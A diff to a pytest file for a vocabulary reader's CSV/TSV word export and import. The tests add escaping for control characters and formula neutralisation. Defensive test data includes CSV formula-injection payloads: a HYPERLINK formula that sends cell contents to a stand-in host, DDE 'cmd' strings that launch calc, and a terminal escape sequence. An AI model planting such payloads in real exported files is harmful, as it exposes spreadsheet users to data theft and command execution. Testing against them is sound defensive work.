@@ -1,14 +1,18 @@
 """`reader words list|export|import` and the CSV/TSV of saved words (reader.words.io)."""
 
+import csv
 import io
+import re
 from dataclasses import replace
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from reader.cli import main
 from reader.cli.words import _list
 from reader.store import DB_FILENAME, TranslationStore
-from reader.words import SavedWord
+from reader.words import STATUSES, SavedWord
 from reader.text.lemmas import lemma_key
 from reader.words.io import COLUMNS, WordFileError, read_words, write_words
 from reader.words.selection import select_words
@@ -76,16 +80,77 @@ def test_csv_round_trip_keeps_every_field():
     assert again.getvalue() == text
 
 
-def test_tsv_is_plain_with_breaks_as_spaces_and_reads_back():
+def test_tsv_escapes_tab_and_line_break_and_reads_them_back():
     out = io.StringIO()
     write_words([ALLIES], out, "tsv")
     header, row = out.getvalue().splitlines()
     assert header.split("\t") == list(COLUMNS)
     fields = row.split("\t")
     assert len(fields) == len(COLUMNS)
-    assert fields[COLUMNS.index("sentence")] == 'Die Verbündeten, "sagte er", der Ukraine eilen.'
+    assert fields[COLUMNS.index("sentence")] == 'Die Verbündeten, "sagte er",\\nder Ukraine\\teilen.'
     (back,) = read_words(out.getvalue().encode(), "tsv")
-    assert back.sentence[slice(*back.span)] == "Verbündeten" and back.gloss == ALLIES.gloss
+    assert same(back, ALLIES)
+
+
+def test_a_tsv_of_another_program_keeps_a_backslash_before_anything_but_an_escape():
+    data = "word\tgloss\nHaus\tC:\\Texte\\ und a\\\\b, 1\\x41 \\x4\n".encode()
+    (w,) = read_words(data, "tsv")
+    assert w.gloss == "C:\\Texte\\ und a\\b, 1A \\x4"
+
+
+_TEXT = st.text(st.characters(codec="utf-8"), max_size=12)
+_STRIPPED = _TEXT.map(str.strip)  # the import strips lemma, word and gloss
+
+
+@st.composite
+def saved_words(draw, formula_starts: bool = False):
+    """Any word the store can hold, every text field arbitrary (with formula-like starts when asked)."""
+    start = st.sampled_from(["", "=", "'=", "''+", "-", "'-", "@", "'", "\t", "\r", "\n"]) if formula_starts else st.just("")
+    text = st.builds(str.__add__, start, _TEXT)
+    word = draw(st.builds(str.__add__, start, _STRIPPED).map(str.strip).filter(bool))
+    before, after = draw(text), draw(text)
+    translation = draw(text)
+    aligned = ((0, len(translation)),) if translation and draw(st.booleans()) else ()
+    micros = st.integers(min_value=0, max_value=4_000_000_000 * 10**6).map(lambda us: us / 10**6)
+    created = draw(micros)
+    return SavedWord(
+        lemma=draw(st.builds(str.__add__, start, _STRIPPED).map(str.strip).filter(bool)), word=word,
+        sentence=before + word + after, span=(len(before), len(before) + len(word)), translation=translation,
+        aligned=aligned, gloss=draw(st.builds(str.__add__, start, _STRIPPED).map(str.strip)),
+        status=draw(st.sampled_from(STATUSES)), document=draw(text),
+        sentence_index=draw(st.integers(min_value=-1, max_value=10**6)), created=created,
+        updated=created + draw(micros),
+    )
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(saved_words(), min_size=1, max_size=3, unique_by=lambda w: w.key))
+def test_tsv_export_then_import_gives_every_field_back(words):
+    out = io.StringIO()
+    write_words(words, out, "tsv")
+    text = out.getvalue()
+    assert len(text.splitlines()) == len(words) + 1  # a line is a row
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", text)  # nothing to drive a terminal
+    back = read_words(text.encode(), "tsv")
+    assert len(back) == len(words) and all(same(a, b) for a, b in zip(back, words))
+
+
+def _no_nul(w: SavedWord) -> bool:
+    """A CSV has no escape for NUL, and the import refuses NUL as binary data (a TSV escapes it)."""
+    return not any("\x00" in v for v in (w.lemma, w.word, w.gloss, w.sentence, w.translation, w.document))
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(saved_words(formula_starts=True).filter(_no_nul), min_size=1, max_size=3,
+                unique_by=lambda w: w.key))
+def test_csv_export_then_import_gives_every_field_back_and_no_cell_starts_a_formula(words):
+    out = io.StringIO()
+    write_words(words, out, "csv")
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    for cell in (c for row in rows[1:] for c in row):
+        assert not re.match("[=+@\t\r\n-]", cell) or re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell), cell
+    back = read_words(out.getvalue().encode(), "csv")
+    assert len(back) == len(words) and all(same(a, b) for a, b in zip(back, words))
 
 
 def test_a_minimal_hand_made_csv_gets_defaults():
@@ -314,13 +379,41 @@ def test_export_says_word_for_one(cache, tmp_path, capsys):
     assert "wrote 2 notes (1 word) in the deck" in capsys.readouterr().err
 
 
-def test_tsv_blanks_control_characters_and_csv_keeps_them(tmp_path):
+def test_tsv_escapes_control_characters_and_csv_keeps_them(tmp_path):
     hostile = SavedWord("Zug", "Zug", "Der Zug.", (4, 7), gloss="a \x1b[31mtrain\x07", created=1.0, updated=1.0)
     tsv, csv_out = io.StringIO(), io.StringIO()
     write_words([hostile], tsv, "tsv")
     write_words([hostile], csv_out, "csv")
-    assert "\x1b" not in tsv.getvalue() and "\x07" not in tsv.getvalue() and "a  [31mtrain " in tsv.getvalue()
-    assert read_words(csv_out.getvalue().encode())[0].gloss == hostile.gloss  # a CSV is data: it round-trips
+    assert "\x1b" not in tsv.getvalue() and "\x07" not in tsv.getvalue() and "a \\x1b[31mtrain\\x07" in tsv.getvalue()
+    for out, fmt in ((tsv, "tsv"), (csv_out, "csv")):  # a file is data: it round-trips
+        assert read_words(out.getvalue().encode(), fmt)[0].gloss == hostile.gloss
+
+
+@pytest.mark.parametrize("gloss", ["=HYPERLINK(\"http://x.test/?\"&A1,\"ok\")", "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
+                                   "@SUM(1+1)*cmd|x!A0", "\t=1+1", "\r=1+1"])
+def test_csv_export_neutralises_formula_cells_and_tsv_and_apkg_keep_them_raw(cache, tmp_path, capsys, gloss):
+    with TranslationStore(cache / DB_FILENAME) as s:
+        s.put_words([replace(HAUS, gloss=gloss)])
+    for fmt in ("csv", "tsv", "apkg"):
+        assert reader("words", "export", str(tmp_path / f"w.{fmt}"), "--status", "known", "--cache-dir", str(cache)) == 0
+    (_, row) = list(csv.reader(open(tmp_path / "w.csv", encoding="utf-8", newline="")))
+    assert row[COLUMNS.index("gloss")] == "'" + gloss
+    assert read_words((tmp_path / "w.tsv").read_bytes(), "tsv")[0].gloss == gloss.strip()
+    assert read_words((tmp_path / "w.csv").read_bytes(), "csv")[0].gloss == gloss.strip()
+    capsys.readouterr()
+    assert reader("words", "import", str(tmp_path / "w.csv"), "--cache-dir", str(cache)) == 0
+    assert capsys.readouterr().err.endswith("imported 0 new, updated 0, 1 unchanged\n") or gloss != gloss.strip()
+
+
+@pytest.mark.parametrize("fmt", ["tsv", "csv"])
+def test_a_gloss_with_a_line_break_exported_and_imported_is_unchanged(cache, tmp_path, capsys, fmt):
+    with TranslationStore(cache / DB_FILENAME) as s:
+        s.put_words([replace(HAUS, gloss="house,\nhome\tand \\ back")])
+    path = tmp_path / f"w.{fmt}"
+    assert reader("words", "export", str(path), "--cache-dir", str(cache)) == 0
+    capsys.readouterr()
+    assert reader("words", "import", str(path), "--cache-dir", str(cache)) == 0
+    assert capsys.readouterr().err == f"reader: {path}: imported 0 new, updated 0, 3 unchanged\n"
 
 
 def test_export_of_nothing_is_an_error_and_writes_nothing(tmp_path, capsys):
@@ -329,6 +422,6 @@ def test_export_of_nothing_is_an_error_and_writes_nothing(tmp_path, capsys):
 
 
 def test_export_into_a_missing_directory_is_one_line(cache, tmp_path, capsys):
-    assert reader("words", "export", str(tmp_path / "no" / "d.csv"), "--cache-dir", str(cache)) == 1
+    assert reader("words", "export", str(tmp_path / "no" / "d.csv"), "--cache-dir", str(cache)) == 2
     err = capsys.readouterr().err
-    assert err.startswith("reader: error: ") and "No such directory" in err and err.count("\n") == 1
+    assert err == f"reader: error: cannot write {tmp_path / 'no' / 'd.csv'}: No such directory: {tmp_path / 'no'}\n"
